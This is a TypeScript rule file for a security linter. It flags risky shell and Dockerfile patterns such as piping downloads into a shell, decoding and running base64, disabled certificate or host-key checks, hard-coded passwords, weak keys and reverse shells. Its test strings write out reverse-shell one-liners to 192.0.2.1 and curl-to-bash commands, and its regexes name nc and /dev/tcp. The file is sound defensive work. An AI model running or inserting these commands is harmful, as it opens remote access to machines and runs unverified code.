/** Shell scripts, and the steps of Dockerfiles: what is fetched, run and trusted. */
import { defineRules } from "../writing/define-rules.ts";
import { command, expansion } from "../writing/shell-matchers.ts";
import type { Matcher } from "../writing/rule.ts";
import { titles } from "../writing/titles.ts";

const shells =
  "(?:sudo[ \\t]+(?:-\\S+[ \\t]+)*)?(?:/(?:usr/)?bin/)?(?:ba|z|k|da|a)?sh|python3?|perl|ruby|node";

const fetched = "^(?:\\$\\(|`)\\s*(?:curl|wget)\\s";

export const fetching = defineRules(["bash", "dockerfile"], "security", [
  {
    id: "sh-download-run-unchecked",
    severity: "high",
    confidence: "medium",
    cwe: 494,
    see: ["https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse"],
    title: titles.unverifiedDownload,
    message:
      "The script from the network runs before its checksum is checked, so a compromised host runs commands here, and a cut connection runs half a script. Download it, compare its checksum or signature, then run it.",
    rule: {
      any: [
        {
          kind: "pipeline",
          regex: `(?s)^(?:curl|wget)\\s.*\\|&?\\s*(?:\\\\\\s+)?(?:${shells})(?:\\s+(?:-(?:[^cm].*)?|/dev/stdin.*))?$`,
        },
        // What comes out of the shell may be kept.
        {
          kind: "pipeline",
          regex: `(?s)^(?:curl|wget)\\s[^|]*\\|&?\\s*(?:sudo[ \\t]+(?:-\\S+[ \\t]+)*)?(?:/(?:usr/)?bin/)?(?:ba|z|k|da|a)?sh(?:\\s+-[a-bd-z-]\\S*)*\\s*\\|`,
        },
        {
          ...command("eval", [
            {
              any: [
                { kind: "command_substitution", regex: fetched },
                { kind: "string", has: { kind: "command_substitution", regex: fetched } },
              ],
            },
          ]),
        },
        {
          ...command("(?:/bin/)?(?:ba|z)?sh", [
            { regex: "^-\\w*c$" },
            { kind: "string", has: { kind: "command_substitution", regex: "^\\$\\(\\s*(?:curl|wget)\\s" } },
          ]),
        },
        {
          ...command("(?:ba|z)?sh|source|\\.|sudo", [
            { kind: "process_substitution", regex: "^<\\(\\s*(?:curl|wget)\\s" },
          ]),
        },
      ],
    },
    valid: [
      "RUN=1; curl -fsSL https://example.com/a.tgz | tar xz",
      "curl -s https://example.com/a.json | python3 parse.py",
      "curl -s https://example.com/a.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
      "curl -fsSLo a.sh https://example.com/a.sh && sha256sum -c a.sum && sh a.sh",
    ],
    invalid: [
      "curl -fsSL https://example.com/a.sh | bash",
      "wget -qO- https://example.com/a.sh | sudo sh -s -- -y",
      'sh -c "$(curl -fsSL https://example.com/a.sh)"',
      "bash <(curl -s https://example.com/a.sh)",
      'eval "$(curl -s https://example.com/a.sh)"',
      "curl -s https://example.com/a.sh | /bin/bash -x | tee log",
    ],
  },
  {
    id: "sh-decoded-text-run",
    severity: "high",
    confidence: "medium",
    cwe: 506,
    title: "Obfuscated code: decoded and executed",
    message:
      "The script decodes a string and runs it, which hides what it does and is typical of malicious code. Write the commands out.",
    rule: {
      kind: "pipeline",
      regex: `(?s)\\|\\s*(?:base64|openssl\\s+(?:enc|base64)|xxd)\\s+(?:-\\S+\\s+)*?(?:-d|-D|--decode|-r)\\b.*\\|\\s*(?:${shells})(?:\\s+-.*)?$`,
    },
    valid: ["echo $KEY | base64 -d > key.pem", "echo a | base64 | sh"],
    invalid: ["echo ZWNobyBoaQ== | base64 -d | sh", "cat a | base64 --decode | bash -s"],
  },
  {
    id: "sh-certificate-not-checked",
    severity: "medium",
    confidence: "high",
    cwe: 295,
    see: ["Transport_Layer_Security"],
    title: titles.tlsOff,
    message:
      "With certificate verification off, another machine on the network path can impersonate the server, read what is sent and change what is downloaded. Remove the option; for a private certificate authority, add its certificate as a trusted root.",
    rule: {
      any: [
        command("curl", [{ regex: "^(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure|--proxy-insecure)$", kind: "word" }]),
        command("wget", [{ regex: "^--no-check-certificate$" }]),
        command("git", [{ regex: "^http\\.sslVerify(?:=false)?$" }], '(?i)sslVerify[= ]"?false'),
        command("npm|yarn|pnpm", [{ regex: "^strict-ssl$" }], "strict-ssl\\s+false"),
        command("pip3?|python3?", [{ regex: "^--trusted-host(?:=.*)?$" }]),
        command("apk", [{ regex: "^--allow-untrusted$" }]),
        command("yum|dnf", [{ regex: "^--nogpgcheck$" }]),
        command("apt-get|apt", [{ regex: "^(?:--allow-unauthenticated|--force-yes)$" }]),
        {
          kind: "variable_assignment",
          regex:
            "^(?:NODE_TLS_REJECT_UNAUTHORIZED=[\"']?0|GIT_SSL_NO_VERIFY=[\"']?(?:1|true)|PYTHONHTTPSVERIFY=[\"']?0)[\"']?$",
        },
      ],
    },
    valid: [
      "curl -fsS https://example.com",
      "curl --cacert ca.pem https://example.com",
      "git config --global http.sslVerify true",
      "curl -o k https://example.com",
    ],
    invalid: [
      "curl -sk https://example.com/a",
      "wget --no-check-certificate https://example.com/a",
      "git config --global http.sslVerify false",
      "npm config set strict-ssl false",
      "export NODE_TLS_REJECT_UNAUTHORIZED=0",
    ],
  },
  {
    id: "sh-host-key-not-checked",
    severity: "medium",
    confidence: "high",
    cwe: 295,
    see: ["https://man.openbsd.org/ssh_config#StrictHostKeyChecking"],
    title: titles.sshHostKey,
    message:
      "SSH accepts any host key, so another machine on the network path can impersonate the host and read what is sent. Put the host's key into `known_hosts` beforehand.",
    rule: command("ssh|scp|sftp|rsync|ssh-copy-id|git", [], 'StrictHostKeyChecking[ =]"?(?:no|off)\\b'),
    valid: ["ssh -o StrictHostKeyChecking=yes a@b", "ssh -o StrictHostKeyChecking=accept-new a@b"],
    invalid: ["ssh -o StrictHostKeyChecking=no a@b ls", 'rsync -e "ssh -o StrictHostKeyChecking=no" a b:'],
  },
  {
    id: "sh-password-on-command-line",
    severity: "high",
    confidence: "medium",
    cwe: 798,
    see: ["Secrets_Management"],
    title: titles.hardCodedPassword,
    message:
      "The password is in the script, so anyone who reads this file has it, and every user of this machine can see it in the process list. Read it from a secret store or a file that only this account can read, and rotate it.",
    rule: {
      any: [
        command("mysql|mysqldump|mysqladmin|mariadb", [
          { kind: "word", regex: "^-p[A-Za-z0-9@!#%^*_.-]{4,}$" },
        ]),
        command("mysql|mysqldump|mysqladmin|mariadb|redis-cli|psql", [
          {
            any: [{ kind: "word" }, literal()],
            regex: "^--(?:password|pass|admin-password)=[\"']?[^$\"'\\s]{3,}",
          },
        ]),
        command("sshpass", [{ kind: "word", regex: "^-p[^$\\s]{3,}$" }]),
        command("sshpass", [{ regex: "^-p$" }], "-p\\s+[\"']?[A-Za-z0-9@!#%^*_.-]{3,}"),
        command(
          "curl|wget",
          [{ regex: "^(?:-u|--user)$" }],
          "(?:-u|--user)\\s+[\"']?[A-Za-z0-9_.@-]+:[A-Za-z0-9!@#%^*_.-]{4,}",
        ),
        command(
          "(?:docker|podman|helm|az|oc)",
          [{ regex: "^login$" }],
          "(?:-p|--password)[= ][\"']?[A-Za-z0-9!@#%^*_.-]{4,}",
        ),
        command(
          "useradd|usermod",
          [{ regex: "^(?:-p|--password)$" }],
          "(?:-p|--password)\\s+[\"']?[A-Za-z0-9]{3,}",
        ),
      ],
    },
    valid: [
      'mysql -u root -p"$DB_PASSWORD" app',
      "mysql -u root -p app",
      'curl -u "$USER:$PASSWORD" https://example.com',
      "docker login --password-stdin",
      'sshpass -p "$PASS" ssh a@b',
    ],
    invalid: [
      "mysql -u root -phunter22 app",
      "mysqldump --password=hunter22 app",
      "sshpass -p hunter22 ssh a@b",
      "curl -u admin:hunter22 https://example.com",
      "docker login -u me -p hunter22 registry.example.com",
    ],
  },
  {
    id: "sh-password-set-to-constant",
    severity: "high",
    confidence: "medium",
    cwe: 798,
    see: ["Secrets_Management"],
    title: titles.hardCodedPassword,
    message:
      "The account gets a password that is in this file, so anyone who reads it, or has the image, can sign in. Lock the account's password, or set it from a secret.",
    rule: {
      kind: "pipeline",
      all: [
        { has: { kind: "command", regex: "^(?:sudo\\s+)?chpasswd(?:\\s|$)" } },
        { has: { kind: "command", regex: "^(?:echo|printf)\\s+(?:-\\w+\\s+)*[\"']?\\w+:[^$\"'\\s]{1,}" } },
      ],
    },
    valid: ['echo "root:$ROOT_PASSWORD" | chpasswd', "cat users | chpasswd"],
    invalid: ["echo 'root:root' | chpasswd", 'echo "app:hunter22" | sudo chpasswd'],
  },
  {
    id: "sh-weak-key-or-cipher",
    severity: "medium",
    confidence: "high",
    cwe: 326,
    see: ["Cryptographic_Storage"],
    title: "Weak cryptographic key or cipher",
    message:
      "Keys and ciphers of this kind can be factored or brute-forced. Use Ed25519 or RSA with 3072 bits, and AES-256.",
    rule: {
      any: [
        command(
          "openssl",
          [{ regex: "^(?:genrsa|req|dsaparam|gendsa|dhparam)$" }],
          "(?:\\s|rsa:)(?:512|768|1024)(?:\\s|$)",
        ),
        command(
          "openssl",
          [{ regex: "^(?:enc|cms|smime)$" }],
          "\\s-(?:des|des3|des-\\S+|rc2\\S*|rc4\\S*|bf\\S*)(?:\\s|$)",
        ),
        command("ssh-keygen", [], "\\s(?:-t\\s*dsa|-b\\s*(?:512|768|1024))(?:\\s|$)"),
      ],
    },
    valid: [
      "openssl genrsa -out k.pem 4096",
      "ssh-keygen -t ed25519",
      "openssl enc -aes-256-cbc -pbkdf2 -in a",
    ],
    invalid: ["openssl genrsa -out k.pem 1024", "ssh-keygen -t rsa -b 1024", "openssl enc -des3 -in a"],
  },
  {
    id: "sh-reverse-shell",
    severity: "critical",
    confidence: "high",
    cwe: 506,
    title: "Reverse shell",
    message:
      "This connects a shell to another machine, which is how intruders keep their access: the other side types commands here. Remove it, and find out how it came here.",
    rule: {
      any: [
        { kind: "redirected_statement", regex: "(?s)^(?:/bin/)?(?:ba|z)?sh\\s+-i\\b.*/dev/tcp/" },
        command("nc|ncat|netcat", [{ regex: "^-[a-z]*e$" }], "-[a-z]*e\\s+/(?:usr/)?bin/(?:ba|z)?sh"),
      ],
    },
    valid: ["nc -z example.com 80"],
    invalid: ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 4444"],
  },
]);

function literal(): Matcher {
  return { kind: "concatenation", not: { has: expansion } };
}
